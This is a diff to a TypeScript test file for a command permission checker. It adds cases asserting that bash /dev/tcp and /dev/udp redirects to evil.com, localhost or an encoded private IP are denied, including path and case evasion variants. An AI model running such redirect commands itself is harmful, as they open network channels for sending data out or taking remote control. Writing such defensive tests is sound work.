@@ -197,6 +197,34 @@ describe('decisions', () => {
   });
 });
 
+describe('bash /dev/tcp and /dev/udp redirects connect to their host', () => {
+  const rules = {
+    deny: ['Read(//etc/**)', 'Domain(evil.com)', 'Domain(localhost)', 'Domain(192.168.1.1)'],
+    allow: ['Shell(*)', 'Read(//**)', 'Edit(//**)', 'Domain(github.com)'],
+  };
+  const cases: [string, DecisionKind][] = [
+    ['exec 3<>/dev/tcp/evil.com/80', 'deny'],
+    ['cat < /dev/tcp/evil.com/80', 'deny'],
+    ['echo x > /dev/udp/evil.com/53', 'deny'],
+    ['exec {fd}<>/dev/tcp/evil.com/80', 'deny'],
+    ['cat < /dev//tcp/evil.com/80', 'deny'],
+    ['cat < /dev/./tcp/evil.com/80', 'deny'],
+    ['cd /dev/tcp; cat < evil.com/80', 'deny'],
+    ['cd /; cat < dev/tcp/evil.com/80', 'deny'],
+    ['cat < /dev/tcp/EVIL.com/80', 'deny'],
+    ['cat < /dev/tcp/evil.com./80', 'deny'],
+    ['exec 3<>/dev/tcp/localhost/18555; echo hi >&3', 'deny'],
+    ['echo x > /dev/tcp/3232235777/80', 'deny'],
+    ['cat < /dev/tcp/example.org/80', 'ask'], // a Domain allow must cover it
+    ['cat < /dev/tcp/github.com/443', 'allow'],
+    ['cat < tcp/a/b', 'allow'],
+    ['echo x > udp.log', 'allow'],
+  ];
+  it.each(cases)('%s: %s', (line, expected) => {
+    expectDecision(rules, 'shell', line, expected);
+  });
+});
+
 describe('PowerShell provider paths (found in review)', () => {
   const rules = { deny: ['Edit(//etc/**)', 'Read(//etc/shadow)'], allow: ['PowerShell(Set-Content *)', 'PowerShell(Get-Content *)', 'PowerShell(Invoke-WebRequest *)', 'Domain(github.com)'] };
   const cases: [string, DecisionKind][] = [
